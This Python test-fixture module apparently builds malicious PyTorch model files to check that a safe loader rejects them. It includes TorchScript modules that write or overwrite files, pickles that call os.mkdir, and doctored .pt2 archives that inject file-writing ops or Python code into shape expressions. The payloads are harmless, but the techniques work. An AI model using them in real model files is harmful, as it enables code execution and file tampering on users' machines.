"""Model files that try to touch the user's files: TorchScript payloads and doctored .pt2 programs.

Every payload is live: the reliability tests first show that torch's own loader runs it (a file
appears or a victim file is overwritten), then that ``load_model`` refuses it and leaves no trace.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import warnings
import zipfile
from pathlib import Path

import torch
from torch import nn

from advviewer.models import export_classifier


class SaveInForward(nn.Module):
    """Writes a file on every call (TorchScript compiles torch.save to aten::save)."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target
        self.fc = nn.Linear(784, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, self.target)
        return self.fc(x.flatten(1))


class SaveInSetstate(nn.Module):
    """Writes a file inside torch.jit.load itself, before the caller can inspect anything."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target = target
        self.fc = nn.Linear(784, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x.flatten(1))

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.target = state[0]
        torch.save(torch.zeros(1), self.target)
        self.training = state[1]


class FromFileOverwrite(nn.Module):
    """Maps an existing file of the user's (shared=True) and overwrites its first bytes."""

    def __init__(self, victim: str) -> None:
        super().__init__()
        self.victim = victim
        self.fc = nn.Linear(784, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        mapped = torch.from_file(self.victim, shared=True, size=8, dtype=torch.uint8)
        mapped.copy_(torch.full([8], 65, dtype=torch.uint8))
        return self.fc(x.flatten(1)) + mapped[0].float() * 0.0  # used, so TorchScript keeps it


def torchscript_file(module: nn.Module, path: Path) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit is deprecated in torch 2.13
        torch.jit.script(module).save(str(path))
    return path


class CreateFolder:
    """A pickle that creates the folder ``path`` when unpickled: os.mkdir(path) (no file handle left open)."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


def tiny_pt2(path: Path) -> Path:
    torch.manual_seed(0)
    return export_classifier(nn.Sequential(nn.Flatten(), nn.Linear(784, 10)), path)


def rewrite_pt2(source: Path, target: Path, edit) -> Path:
    """Copy a .pt2 archive, letting ``edit(name, data) -> bytes | None`` change (or drop) members."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = edit(info.filename, zin.read(info))
            if data is not None:
                zout.writestr(info.filename, data)
    return target


def _edit_program(change):
    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            program = json.loads(data)
            change(program)
            return json.dumps(program).encode()
        return data
    return edit


def pt2_calling_from_file(source: Path, target: Path, victim: str) -> Path:
    """Adds aten.from_file(victim, shared=True, size=8) and a copy_ of 'A's into it before the output."""
    def change(program: dict) -> None:
        graph = program["graph_module"]["graph"]
        mapped = {"target": "torch.ops.aten.from_file.default", "metadata": {},
                  "inputs": [{"name": "filename", "arg": {"as_string": victim}, "kind": 1},
                             {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                             {"name": "size", "arg": {"as_int": 8}, "kind": 1},
                             {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2}],
                  "outputs": [{"as_tensor": {"name": "mapped"}}]}
        fill = {"target": "torch.ops.aten.fill_.Scalar", "metadata": {},
                "inputs": [{"name": "self", "arg": {"as_tensor": {"name": "mapped"}}, "kind": 1},
                           {"name": "value", "arg": {"as_int": 65}, "kind": 1}],
                "outputs": [{"as_tensor": {"name": "filled"}}]}
        graph["nodes"][:0] = [mapped, fill]
        graph["tensor_values"]["mapped"] = graph["tensor_values"]["filled"] = {
            "dtype": 1, "sizes": [{"as_int": 8}], "requires_grad": False, "device": {"type": "cpu", "index": None},
            "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}, "layout": 7}
    return rewrite_pt2(source, target, _edit_program(change))


def pt2_calling_torch_save(source: Path, target: Path, written: str) -> Path:
    """A node whose target is the Python function torch.save (torch's loader resolves any torch.* name)."""
    def change(program: dict) -> None:
        graph = program["graph_module"]["graph"]
        user_input = graph["inputs"][-1]["as_tensor"]["name"]
        graph["nodes"].insert(0, {"target": "torch.save", "metadata": {},
                                  "inputs": [{"name": "obj", "arg": {"as_tensor": {"name": user_input}}, "kind": 1},
                                             {"name": "f", "arg": {"as_string": written}, "kind": 1}],
                                  "outputs": [{"as_none": True}]})
    return rewrite_pt2(source, target, _edit_program(change))


def pt2_with_pickled_weights(source: Path, target: Path, created: str) -> Path:
    """The first weight stored as a pickle (use_pickle: true) that creates a folder when unpickled."""
    state = {}

    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("data/weights/model_weights_config.json"):
            config = json.loads(data)
            first = next(iter(config["config"].values()))
            first["use_pickle"] = True
            state["path_name"] = first["path_name"]
            return json.dumps(config).encode()
        return data

    rewrite_pt2(source, target, edit)
    payload = io.BytesIO()
    torch.save(CreateFolder(created), payload)
    final = target.with_name(target.stem + "_final.pt2")
    rewrite_pt2(target, final, lambda n, d: payload.getvalue() if n.endswith("data/weights/" + state["path_name"]) else d)
    final.replace(target)
    return target


def pt2_with_pickled_sample_inputs(source: Path, target: Path, created: str) -> Path:
    """Sample inputs (which torch unpickles with weights_only=False when weights_only=True fails) that create a folder."""
    return rewrite_pt2(source, target, lambda n, d: pickle.dumps(CreateFolder(created)) if "sample_inputs" in n else d)


def pt2_with_code_in_a_shape(source: Path, target: Path, created: str) -> Path:
    """A shape expression that is Python code: torch's loader hands it to sympy.sympify, i.e. eval."""
    code = f"__import__('os').mkdir({created!r}) or 1"

    def change(program: dict) -> None:
        program["range_constraints"] = {code: {"min_val": 1, "max_val": 10}}
        for value in program["graph_module"]["graph"]["tensor_values"].values():
            for size in value["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] = code
    return rewrite_pt2(source, target, _edit_program(change))
